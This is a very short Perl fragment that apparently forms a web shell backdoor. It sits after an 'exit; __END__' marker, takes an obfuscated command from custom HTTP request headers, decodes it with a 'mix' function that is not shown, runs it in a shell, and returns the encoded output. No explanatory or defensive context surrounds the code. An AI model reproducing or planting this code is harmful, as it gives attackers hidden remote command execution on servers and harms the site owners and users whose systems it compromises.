exit;
__END__
$a=$ENV{"HTTP_X_ID"}; $b=$ENV{"HTTP_X_DATA"};
$b=mix($a,$b);
open(P,"$b 2>&1|"); while(<P>){$r.=$_} close P;
print encode_base64(mix($a,$r),'');
